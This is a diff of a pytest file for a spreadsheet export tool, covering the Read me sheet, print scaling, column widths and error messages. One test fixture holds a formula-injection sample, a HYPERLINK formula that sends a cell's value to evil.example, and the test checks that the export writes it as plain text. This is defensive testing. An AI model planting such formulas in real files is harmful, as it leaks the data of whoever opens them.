@@ -1,19 +1,25 @@
-"""scripts/xlsx/export.py: what the workbook holds for its readers (Read me first, named fonts, one
+"""scripts/xlsx/write/export.py: what the workbook holds for its readers (Read me first, named fonts, one
 boolean convention, formats by unit, dropdowns over whole columns, ISBLANK highlighting, print
 setup, worded chart), what it refuses, and that two exports are byte-identical."""
 
 from __future__ import annotations
 
 import re
+import subprocess
+import sys
 import zipfile
 from pathlib import Path
 
 import openpyxl
 import pytest
 
-from scripts.model.package import load_package
-from scripts.xlsx.export import STATE_SHEET, ExportError, export_workbook, fingerprint
-from scripts.xlsx.guide import README_SHEET
+from scripts.model.package import csv_text, load_package, read_rows
+from scripts.xlsx.read.importer import import_workbook
+from scripts.xlsx.state import STATE_SHEET, fingerprint
+from scripts.xlsx.write.export import ExportError, export_workbook
+from scripts.xlsx.write.guide import README_SHEET
+from scripts.xlsx.write.printing import MIN_SCALE, fit_scale, key_columns
+from scripts.xlsx.write.styles import figure_text
 from tests.unit.xlsx_support import ROOT, column_of, copy_package, export, row_of
 
 
@@ -50,6 +56,14 @@ def test_read_me_explains_the_data_in_words(wb):
                   "Where the sources are", "2024-08", "billion USD", "src-000", "held"):
         assert words in text, words
     assert "/work" not in text and "tables/" not in text and ".csv" not in text
+
+
+def test_read_me_says_truthfully_that_the_sources_are_not_distributed(wb):
+    """The README says the source texts are not redistributed; the Read me sheet must not claim
+    they are "published with the dataset"."""
+    cells = [str(c.value) for row in wb[README_SHEET].iter_rows() for c in row if c.value is not None]
+    where = cells[cells.index("Where the sources are") + 1]
+    assert "not distributed with the dataset" in where and "published with" not in where
 
 
 def test_no_internal_path_shown_anywhere(exported):
@@ -105,13 +119,45 @@ def test_required_cells_are_highlighted_with_isblank(exported):
     assert not any("LEN(" in f for f in formulas)
 
 
-def test_every_table_sheet_prints_landscape_one_page_wide_with_header_and_footer(wb):
-    for name in load_package(ROOT).tables:
+def test_sheets_fit_the_page_width_only_while_the_text_stays_readable(wb):
+    """Narrow sheets print one page wide; wide ones at 75 % across pages, rows first, with the
+    header row and the key column(s) on every page. Every sheet prints landscape with its name
+    and page number in the footer."""
+    fitted, across = [], {}
+    for name in [README_SHEET, "fields", *load_package(ROOT).tables, "trade_chart"]:
         ws = wb[name]
-        assert (ws.page_setup.orientation, ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == ("landscape", 1, 0)
-        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
-        assert ws.print_title_rows == "$1:$1"
+        assert ws.page_setup.orientation == "landscape"
         assert (ws.oddFooter.left.text, ws.oddFooter.right.text) == ("&A", "Page &P of &N")
+        if ws.sheet_properties.pageSetUpPr.fitToPage:
+            assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
+            fitted.append(name)
+        else:
+            assert (ws.page_setup.scale, ws.page_setup.pageOrder) == (MIN_SCALE, "overThenDown")
+            across[name] = ws.print_title_cols
+        if name not in (README_SHEET, "trade_chart"):
+            assert ws.print_title_rows == "$1:$1"
+    assert fitted == [README_SHEET, "source_organizations", "states", "offices", "persons", "format_partners",
+                      "topics", "meeting_topics", "project_states", "trade_chart"]
+    assert across["meetings"] == across["indicators"] == "$A:$A"
+    assert (across["fields"], across["memberships"], across["attendance"]) == ("$A:$B", "$A:$B", "$A:$C")
+
+
+def test_printing_rule_fits_while_the_text_stays_at_75_percent():
+    assert fit_scale([40, 40, 20]) == 1.0
+    assert round(fit_scale([100, 46]) * 100) == MIN_SCALE  # 146 characters × 7 points fill 770 points at 75 %
+    assert fit_scale([100, 60]) * 100 < MIN_SCALE
+    assert key_columns([30, 20, 40, 10], leading_keys=3) == 2  # the third would take more than half a page
+    assert key_columns([120, 5], leading_keys=2) == 0
+
+
+def test_figure_columns_are_as_wide_as_the_figure_with_its_unit(wb):
+    """The value column holds "36.5 billion USD", not just "36.5": a column sized on the bare
+    number prints the figure as ### in LibreOffice."""
+    ws = wb["indicators"]
+    value = ws.cell(1, column_of(ws, "value")).column_letter
+    assert figure_text("36.5", "USD", "billion") == "36.5 billion USD"
+    assert (figure_text("5000", "count", "one"), figure_text("11", "percent", "one")) == ("5,000", "11%")
+    assert ws.column_dimensions[value].width == len("36.5 billion USD") + 2  # the widest, and a margin of two
 
 
 def test_chart_is_titled_in_words_and_targets_stand_apart(wb, exported):
@@ -149,3 +195,71 @@ def test_control_character_is_refused_and_nothing_written(tmp_path):
     with pytest.raises(ExportError, match=r"^states.csv row 2, field name: the value .*U\+001B"):
         export_workbook(load_package(pkg), dest)
     assert not dest.exists() and list(tmp_path.glob(".*tmp*")) == []
+
+
+FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+7 701 000 00 00", "-5 degrees",
+                "@mention"]
+
+
+def _with_formula_like_texts(tmp_path: Path) -> Path:
+    """A package whose first topics' descriptions start as a spreadsheet formula would."""
+    pkg = copy_package(tmp_path / "pkg")
+    table = load_package(pkg).table("topics")
+    rows = read_rows(table)
+    for row, text in zip(rows, FORMULA_LIKE, strict=False):
+        row["description"] = text
+    table.path.write_text(csv_text(table, rows), encoding="utf-8")
+    return pkg
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text_and_reads_back_unchanged(tmp_path):
+    """Text is always an inline string: a cell starting with =, +, - or @ is never a formula in the
+    workbook, and the import reads it back as the same text (no table changes)."""
+    pkg = _with_formula_like_texts(tmp_path)
+    dest = export(pkg, tmp_path / "w.xlsx")
+    sheet = next(xml for xml in _parts(dest).values() if "<t>@mention</t>" in xml)
+    assert "<f>" not in sheet and "<f " not in sheet
+    ws = openpyxl.load_workbook(dest)["topics"]
+    column = column_of(ws, "description")
+    cells = [ws.cell(r, column) for r in range(2, 2 + len(FORMULA_LIKE))]
+    assert [(c.value, c.data_type) for c in cells] == [(text, "s") for text in FORMULA_LIKE]
+    before = (pkg / "tables" / "topics.csv").read_bytes()
+    result = import_workbook(pkg, dest, None)
+    assert (result.problems, result.changed) == ([], [])
+    assert (pkg / "tables" / "topics.csv").read_bytes() == before
+
+
+def _run_export(pkg: Path, dest: Path, inject: str = "") -> subprocess.CompletedProcess[str]:
+    """``python -m scripts export`` in a fresh interpreter (tracebacks of objects collected after
+    the error line reach the real stderr only), optionally with a fault injected first; prints
+    the temporary files openpyxl still holds at the end."""
+    code = (f"import sys; sys.path.insert(0, {str(ROOT)!r})\n{inject}\n"
+            "from openpyxl.worksheet._writer import ALL_TEMP_FILES\nfrom scripts.cli import main\n"
+            f"code = main(['export', {str(pkg)!r}, '--output', {str(dest)!r}])\n"
+            "import gc; gc.collect(); print(len(ALL_TEMP_FILES)); sys.exit(code)")
+    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300, cwd=ROOT)
+
+
+def test_an_export_failing_after_its_sheets_exist_prints_one_line(tmp_path):
+    """A control character in a field's description fails the export once sheets exist: before,
+    every open sheet printed two tracebacks after the one error line."""
+    pkg = copy_package(tmp_path / "pkg")
+    schema = pkg / "schemas" / "topics.json"
+    schema.write_text(schema.read_text(encoding="utf-8").replace('"description": "', '"description": "\\u0001', 1),
+                      encoding="utf-8")
+    done = _run_export(pkg, tmp_path / "w.xlsx")
+    assert (done.returncode, done.stderr.splitlines()) == (
+        1, ["error: datapackage.json or a schema: a title or description holds a control character"])
+    assert done.stdout.split() == ["0"] and not (tmp_path / "w.xlsx").exists()
+
+
+def test_a_failure_after_every_sheet_is_created_prints_one_line(tmp_path):
+    """A write that fails after the last sheet (here the disk, injected): one line, exit 2, and
+    no temporary sheet file left behind."""
+    inject = ("import errno, scripts.xlsx.write.export as export\n"
+              "def full(*args): raise OSError(errno.ENOSPC, 'No space left on device')\n"
+              "export._write_state = full")
+    done = _run_export(copy_package(tmp_path / "pkg"), tmp_path / "w.xlsx", inject)
+    assert (done.returncode, done.stderr.splitlines()) == (
+        2, ["error: file system error: the disk is full (free some space and run the command again)"])
+    assert done.stdout.split() == ["0"] and not (tmp_path / "w.xlsx").exists()
